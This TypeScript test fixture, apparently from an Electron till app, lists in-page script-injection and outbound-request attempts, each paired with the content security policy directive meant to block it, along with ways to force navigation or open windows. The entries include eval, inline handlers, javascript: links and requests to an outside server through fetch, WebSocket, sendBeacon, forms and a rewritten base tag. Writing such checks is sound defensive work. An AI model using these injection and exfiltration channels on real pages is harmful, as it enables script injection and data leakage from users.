// What a script inside the page would try, as code that `inAttack` prepares to run there.

/**
 * Gives the code what it needs: `add` for elements, `blob` for addresses of texts, and `outside`, a
 * server's address.
 */
export const inAttack = (outside: string, code: string): string => `(() => {
  const outside = '${outside}';
  const blob = (text) => URL.createObjectURL(new Blob([text]));
  const add = (tag, attributes, text = '') => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    element.textContent = text;
    document.body.append(element);
    return element;
  };
  return ${code};
})()`;

/**
 * To be run in a page that was not led away: Electron does not tell a debugger that a navigation
 * was refused, and the debugger would go on waiting for its end.
 */
export const endNavigation = 'history.replaceState(history.state, "", location.href)';

/**
 * Each with the directive of the content security policy that blocks it. A script that runs sets
 * `top.ran`.
 */
export const attacks: readonly (readonly [name: string, directive: string, code: string])[] = [
  ['a script in the page', 'script-src-elem', `add('script', {}, 'top.ran = true')`],
  ['a handler', 'script-src-attr', `add('b', { onclick: 'top.ran = true' }).click()`],
  [
    'a javascript: link',
    'script-src-elem',
    `add('a', { href: 'javascript:top.ran = true' }).click()`,
  ],
  ['eval', 'script-src', `(0, eval)('top.ran = true')`],
  ['Function', 'script-src', `new Function('top.ran = true')()`],
  ['a timer with a text', 'script-src', `setTimeout('top.ran = true')`],
  [
    'WebAssembly',
    'script-src',
    `new WebAssembly.Module(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0))`,
  ],
  ['a script from outside', 'script-src-elem', `add('script', { src: outside })`],
  ['a script from a blob', 'script-src-elem', `add('script', { src: blob('top.ran = true') })`],
  ['a module from outside', 'script-src-elem', `import(outside).catch(() => undefined)`],
  ['a worker', 'worker-src', `new Worker(blob(''))`],
  ['a shared worker', 'worker-src', `new SharedWorker(blob(''))`],
  [
    'a style sheet from outside',
    'style-src-elem',
    `add('link', { rel: 'stylesheet', href: outside })`,
  ],
  [
    'a style in the page',
    'style-src-elem',
    `add('style', {}, 'b { background: url(' + outside + ') }')`,
  ],
  ['an image', 'img-src', `add('img', { src: outside })`],
  ['an icon', 'img-src', `add('link', { rel: 'icon', href: outside })`],
  ['a font', 'font-src', `new FontFace('f', 'url(' + outside + ')').load().catch(() => undefined)`],
  ['a film', 'media-src', `add('video', { src: outside, autoplay: '' })`],
  ['a frame', 'frame-src', `add('iframe', { src: outside })`],
  ['a frame of data', 'frame-src', `add('iframe', { src: 'data:text/html,' })`],
  ['an object', 'object-src', `add('object', { data: outside })`],
  ['an embed', 'object-src', `add('embed', { src: outside })`],
  ['fetching ahead', 'default-src', `add('link', { rel: 'prefetch', href: outside })`],
  ['fetch', 'connect-src', `fetch(outside, { mode: 'no-cors' }).catch(() => undefined)`],
  ['WebSocket', 'connect-src', `new WebSocket(outside.replace('http', 'ws'))`],
  ['EventSource', 'connect-src', `new EventSource(outside)`],
  ['sendBeacon', 'connect-src', `navigator.sendBeacon(outside, 'x')`],
  ['another base', 'base-uri', `document.head.append(add('base', { href: outside }))`],
  [
    'a form',
    'form-action',
    `add('iframe', { name: 'inner' }),
        add('form', { action: outside, method: 'post', target: 'inner' }).submit()`,
  ],
];

/**
 * Ways to lead the till elsewhere, or to open another window. The page has a frame called
 * `receipt`.
 */
export const ways: readonly (readonly [name: string, code: string])[] = [
  ['an address', `location.href = outside`],
  ['an address in place of its own', `location.replace(outside)`],
  ['another host of its own scheme', `location.href = location.href.replace('app', 'other')`],
  ['a link', `add('a', { href: outside }).click()`],
  ['a link for another window', `add('a', { href: outside, target: '_blank' }).click()`],
  ['a link for a named window', `add('a', { href: outside, target: 'other' }).click()`],
  ['a refresh', `add('meta', { 'http-equiv': 'refresh', content: '0;url=' + outside })`],
  ['window.open', `window.open(outside)`],
  ['window.open with its own address', `window.open(location.href)`],
  ['window.open with nothing', `window.open()`],
  ['a frame led away', `frames.receipt.location = outside`],
  ['a receipt in its own place', `location.href = '/receipt/sale/none'`],
];
